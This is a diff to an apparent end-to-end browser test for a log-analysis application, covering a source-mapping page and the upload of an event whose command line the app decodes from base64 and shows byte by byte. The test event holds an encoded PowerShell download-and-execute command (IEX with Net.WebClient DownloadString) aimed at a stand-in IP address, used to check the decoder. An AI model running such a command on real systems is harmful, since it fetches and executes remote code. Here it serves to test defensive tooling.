@@ -15,7 +15,6 @@ await withBrowser(async (browser) => {
   await signInOnce(page, process.env.WATCHKEEP_ONCE);
   const says = (words) => until(String(words), async () => words.test(await text(page, "#mapping-reading")));
   await visit(page, "/r/log_source/1");
-  const source = await text(page, "h1");
   await page.keyboard.press("m");
   await page.waitForURL(/\/sources\/1\/mapping$/);
   await fill(page);
@@ -36,8 +35,7 @@ await withBrowser(async (browser) => {
   await says(/Lyon anna forced forced: Dock 3.*physical \/ door/);
   await picture(page, "mapping-filled");
   await assertNoErrors(page, "mapping");
-  await page.keyboard.press("Control+Enter").catch(() => {});
-  if (/mapping$/.test(page.url())) await leads(page, () => page.click('button:has-text("Save")'));
+  await leads(page, () => page.click('button:has-text("Save")'));
   assert.match(await text(page, "main"), /What its fields mean.*time.zone = Europe\/Berlin/);
 
   // The filled page in every look.
@@ -56,21 +54,20 @@ await withBrowser(async (browser) => {
 
   // An event that carries a command in base64 shows it as words, and its bytes page by page.
   const packed = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "utf16le").toString("base64");
-  const event = JSON.stringify({ host: "ws-9", message: "started", CommandLine: `powershell.exe -nop -enc ${packed}`, more: "x y ".repeat(2_000) });
+  const event = JSON.stringify({ host: "ws-9", message: "started", CommandLine: `powershell.exe -nop -enc ${packed}`, more: "x y ".repeat(600) });
   await visit(page, "/events");
   await page.click('button:has-text("Upload a log")');
   await page.fill("#upload-source", "packed");
   await page.setInputFiles("#upload-file", { name: "a.json", mimeType: "application/json", buffer: Buffer.from(event) });
   await leads(page, () => page.click("#upload-form button[type=submit]"));
-  await leads(page, () => page.click('main a[href^="/events/"]'));
+  await leads(page, () => page.click('main table a[href^="/events/"]'));
   const shown = await text(page, "main");
   assert.match(shown, /Unpacked 1 CommandLine base64 → text in UTF-16 Copy IEX \(New-Object Net\.WebClient\)/);
-  assert.match(shown, /0 to 4096 of \d+ bytes/);
+  assert.match(shown, /0 to 1024 of \d+ bytes/);
   const path = new URL(page.url()).pathname;
   await page.click('a:has-text("Bytes after")');
-  await page.waitForURL(/at=4096/);
-  assert.match(await text(page, "#bytes"), /^00001000 /);
+  await page.waitForURL(/at=1024/);
+  assert.match(await text(page, "#bytes"), /^00000400 /);
   await assertNoErrors(page, "event");
   await assertLooksRight(browser, path, "event-packed", await page.context().storageState());
-  assert.ok(source.length > 0);
 });
